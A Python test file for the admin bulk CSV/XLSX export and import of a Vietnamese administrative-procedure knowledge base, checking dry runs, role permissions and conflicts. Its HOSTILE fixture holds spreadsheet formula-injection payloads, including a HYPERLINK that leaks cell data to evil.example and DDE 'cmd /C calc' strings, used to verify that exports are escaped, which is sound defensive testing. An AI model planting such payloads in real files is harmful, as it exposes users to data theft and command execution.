from __future__ import annotations

import csv
import io
import re

from fastapi.testclient import TestClient
from openpyxl import load_workbook
from sqlalchemy.orm import Session, sessionmaker

from assistant.db import session_scope
from knowledge import crud
from knowledge.admin.bulk import COLUMNS, dry_run, export_csv, export_xlsx, read_table
from tests.factories import procedure_data
from tests.knowledge.admin.conftest import StaffLogin
from tests.knowledge.admin.forms import form_fields

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def _fee(client: TestClient, code: str) -> str:
    body = client.get(f"/api/procedures/{code}/answer", params={"topic": "fee"}).json()
    return "\n".join(m["text"] for m in body["messages"])


def test_export_round_trips_without_changes(admin_client: TestClient, staff_login: StaffLogin,
                                            session_factory: sessionmaker[Session]) -> None:
    staff_login(admin_client, role="editor")
    xlsx = admin_client.get("/admin/bulk/export.xlsx")
    assert xlsx.status_code == 200 and xlsx.headers["content-type"] == XLSX
    sheet = load_workbook(io.BytesIO(xlsx.content)).worksheets[0]
    assert [c.value for c in sheet[1]] == list(COLUMNS) and sheet.max_row == 4
    exported_csv = admin_client.get("/admin/bulk/export.csv").content
    for data, name in ((xlsx.content, "a.xlsx"), (exported_csv, "a.csv")):
        with session_factory() as session:
            report = dry_run(session, read_table(data, name))
        assert report.rejected == [] and report.changes == [] and report.unchanged == 3


def test_dry_run_reports_changes_and_rejections_then_nothing_is_written(
        admin_client: TestClient, staff_login: StaffLogin) -> None:
    staff_login(admin_client, role="publisher")
    rows = [["code", "in_person_fee_vnd", "in_person_time_value", "in_person_time_unit", "ghi_chu"],
            ["2.000635", "10.000", "", "", "x"],
            ["1.000894", "", "3", "working_days", ""],
            ["9.999999", "1000", "", "", ""],
            ["1.001193", "mười nghìn", "", "", ""]]
    buffer = io.StringIO()
    csv.writer(buffer).writerows(rows)
    page = admin_client.get("/admin/bulk")
    token = form_fields(page.text)["csrf_token"]
    response = admin_client.post("/admin/bulk/dry-run", data={"csrf_token": token},
                                 files={"file": ("sua.csv", buffer.getvalue().encode("utf-8"), "text/csv")})
    assert response.status_code == 200
    assert "2 thủ tục sẽ thay đổi, 0 không đổi, 2 dòng bị từ chối" in response.text
    assert "Dòng 4 (9.999999)" in response.text and "Dòng 5 (1.001193)" in response.text
    assert "Lệ phí (đồng): 10.000" in response.text and "ghi_chu" in response.text
    assert 'action="/admin/bulk/apply"' not in response.text  # refused rows: nothing can be applied
    assert "8.000 đồng" in _fee(admin_client, "2.000635")


def test_apply_writes_all_changes_and_reindexes(admin_client: TestClient, staff_login: StaffLogin,
                                               session_factory: sessionmaker[Session]) -> None:
    staff_login(admin_client, role="publisher")
    rows = [["code", "online_fee_vnd", "post_fee_vnd", "in_person_fee_vnd", "result"],
            ["2.000635", "9000", "9000", "9000", ""],
            ["1.000894", "", "", "", "Giấy chứng nhận kết hôn (bản điện tử và bản giấy)"]]
    buffer = io.StringIO()
    csv.writer(buffer).writerows(rows)
    token = form_fields(admin_client.get("/admin/bulk").text)["csrf_token"]
    checked = admin_client.post("/admin/bulk/dry-run", data={"csrf_token": token},
                                files={"file": ("sua.csv", buffer.getvalue().encode("utf-8"), "text/csv")})
    assert checked.status_code == 200
    apply_form = form_fields(checked.text.split('action="/admin/bulk/apply"')[1].split("</form>")[0].join(
        ["<form>", "</form>"]))
    done = admin_client.post("/admin/bulk/apply", data=apply_form, follow_redirects=False)
    assert done.status_code == 303
    assert "9.000 đồng" in _fee(admin_client, "2.000635")
    with session_factory() as session:
        assert crud.get_procedure(session, code="1.000894").content["result"].endswith("(bản điện tử và bản giấy)")
        assert crud.list_revisions(session, code="2.000635")[-1].reason == "bulk import"
    # Applying the same checked file again is refused: the procedures moved on since the check.
    again = admin_client.post("/admin/bulk/apply", data=apply_form)
    assert again.status_code == 409 and re.search("người khác sửa|kiểm tra lại", again.text)


def test_editor_checks_but_cannot_apply(admin_client: TestClient, staff_login: StaffLogin) -> None:
    user = staff_login(admin_client, role="editor")
    response = admin_client.post("/admin/bulk/apply", data={"csrf_token": user.csrf_token, "upload_id": "x"})
    assert response.status_code == 403


def test_unreadable_upload_is_explained(admin_client: TestClient, staff_login: StaffLogin) -> None:
    user = staff_login(admin_client, role="editor")
    response = admin_client.post("/admin/bulk/dry-run", data={"csrf_token": user.csrf_token},
                                 files={"file": ("a.xlsx", b"not a zip", XLSX)})
    assert response.status_code == 422 and "Không đọc được tệp" in response.text


HOSTILE = {
    "name": '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "field": "+84 cmd|' /C calc'!A0",
    "applicants": "-2+3+cmd|' /C calc'!A0",
    "result": "@SUM(1+1)*cmd|' /C calc'!A0",
    "conditions": "'=không phải công thức, có sẵn dấu nháy",
    "submission_address": "'Sổ đỏ' là cách gọi quen thuộc",
}


def test_exported_cells_never_start_a_formula_and_import_back_exactly(
        session_factory: sessionmaker[Session]) -> None:
    with session_scope(session_factory) as session:
        crud.upsert_imported(session, data=procedure_data("1.001193", steps=["- Bước 1: nộp hồ sơ", "=1+1"],
                                                          **HOSTILE))
        crud.upsert_imported(session, data=procedure_data("1.000894", name="\t=cmd|' /C calc'!A0",
                                                          result="\r=1+1"))
    with session_factory() as session:
        procedures = crud.all_procedures(session)
        xlsx, exported_csv = export_xlsx(procedures), export_csv(procedures)

    sheet = load_workbook(io.BytesIO(xlsx)).worksheets[0]  # formulas as written, not their cached values
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row if isinstance(cell.value, str)]
    assert cells and all(cell.data_type == "s" for cell in cells), [c.value for c in cells if c.data_type != "s"]
    rows = list(csv.reader(io.StringIO(exported_csv.decode("utf-8-sig"))))[1:]
    for texts in ([str(c.value) for c in cells], [cell for row in rows for cell in row]):
        assert not [t for t in texts if t and t[0] in "=+-@\t\r"], "a cell a spreadsheet would evaluate"
        assert "'" + HOSTILE["name"] in texts and "''=không phải công thức, có sẵn dấu nháy" in texts
        assert HOSTILE["submission_address"] in texts  # an apostrophe before ordinary text is left alone

    for data, filename in ((xlsx, "a.xlsx"), (exported_csv, "a.csv")):
        table = read_table(data, filename)
        by_code = {row["code"]: row for row in table}
        assert by_code["1.001193"]["name"] == HOSTILE["name"]
        assert by_code["1.001193"]["conditions"] == HOSTILE["conditions"]
        assert by_code["1.001193"]["steps"] == "- Bước 1: nộp hồ sơ\n=1+1"
        with session_factory() as session:
            report = dry_run(session, table)
        # Leading blanks are trimmed by every import (tab, CR), so only those two fields may differ.
        assert report.rejected == []
        assert [(c.code, [f.name for f in c.fields]) for c in report.changes] in (
            [], [("1.000894", ["name", "result"])])
        assert report.unchanged + len(report.changes) == 2
